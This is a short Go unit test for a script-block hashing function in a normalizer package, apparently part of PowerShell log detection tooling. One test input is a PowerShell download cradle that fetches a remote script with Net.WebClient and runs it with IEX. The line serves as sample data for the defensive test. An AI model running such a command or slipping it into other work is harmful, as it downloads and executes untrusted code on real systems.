package normalizer

import "testing"

// TestScriptBlockHash: the expected values are base64(SHA-1("\x00" +
// text without ASCII whitespace)), computed with sha1sum.
func TestScriptBlockHash(t *testing.T) {
	t.Parallel()
	tests := []struct{ text, want string }{
		{"", "W6k8nbDP+T9StSHXQg5D9u2ieE8="},
		{"a b\tc\r\n\v\fd", "R3Jzc5oybEhprpzzFTsXatHz3Kk="},
		{"abcd", "R3Jzc5oybEhprpzzFTsXatHz3Kk="},
		// U+00A0 is no \s to Java: kept.
		{"é\u00a0 x", "BGM6WXjxTPlzzH+fgsEtx4B8C3I="},
		{`$c = New-Object Net.WebClient; IEX $c.DownloadString("http://198.51.100.7/a.ps1")`, "fQ8NJOY/OzOZyYMQ6JG0LiNPD/0="},
	}
	for _, tt := range tests {
		if got := scriptBlockHash(tt.text); got != tt.want {
			t.Errorf("scriptBlockHash(%q) = %s, want %s", tt.text, got, tt.want)
		}
	}
}
